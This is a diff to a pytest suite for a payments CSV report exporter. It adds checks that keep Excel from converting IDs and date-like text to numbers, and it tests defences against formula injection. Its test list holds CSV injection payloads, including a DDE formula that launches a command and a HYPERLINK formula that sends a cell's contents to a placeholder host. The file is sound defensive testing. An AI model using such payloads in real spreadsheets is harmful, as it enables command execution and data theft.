@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from payments.reports.csv_text import FORMULA_STARTS, csv_text, guarded
+from payments.reports.csv_text import FORMULA_STARTS, csv_text, guarded, kept
 from payments.reports.html_page import html_page
 from payments.reports.tables import Column, Kind, Table, Tally, TooManyGroups
 
@@ -52,6 +52,34 @@ def test_excel_is_told_that_the_text_is_unicode(table):
     assert not as_csv(table()).startswith("\ufeff")
 
 
+CHANGED = ["000123", "4200000003202611228106345230", "1234567890123456", "1E5", "1.5e+10", "3-4",
+           "3/4", "12:30", "1-2-3", "2026-1-2", "1 2", "MAR1", "Sept-2", "2 dec",
+           "1-Mar-26", "true", "FALSE"]  # fmt: skip
+UNCHANGED = ["20261122", "123456789012345", "0", "2026-11-22", "2026-11-22T12:39:01.832Z", "A-1",
+             "R-000123", "pay_01M81M7ZSK0005XD8FWWG5T0", "", "牛肉面", "\u0660\u0661", "marble",
+             "1-2-x", "3e", "truely"]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", CHANGED)
+def test_excel_is_kept_from_making_a_number_of_text(table, text):
+    """Only in the file that is for Excel: programs read the text as it is."""
+    made = table((text, 1, 0))
+    assert text + "\t" == read(as_csv(made, bom=True))[1][1]
+    assert text == read(as_csv(table((text, 1, 0))))[1][1]
+
+
+@pytest.mark.parametrize("text", UNCHANGED)
+def test_what_excel_leaves_alone_is_left_alone(text):
+    assert text == kept(text)
+
+
+def test_amounts_stay_numbers_for_excel(table):
+    """A zero, and a decimal that looks like a date in other countries."""
+    assert ["1", "0.05", "0.00", "0.05"] == read(
+        as_csv(table(("sale", 5, 0)), "decimal", bom=True)
+    )[1][-4:]
+
+
 FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "=cmd|' /C calc'!A0",
             '=HYPERLINK("http://example.test?"&A1)']  # fmt: skip
 
@@ -64,6 +92,7 @@ def test_text_is_never_a_formula(table, text):
     made.groupings, made.extracts = {}, {}
     heading, row = read(as_csv(made))[:2]
     assert ("'" + text, "'" + text) == (heading[1], row[1])
+    assert "'" + text == kept(text)
 
 
 @given(st.text(st.characters(exclude_characters="\0", exclude_categories=("Cs",)), max_size=30))
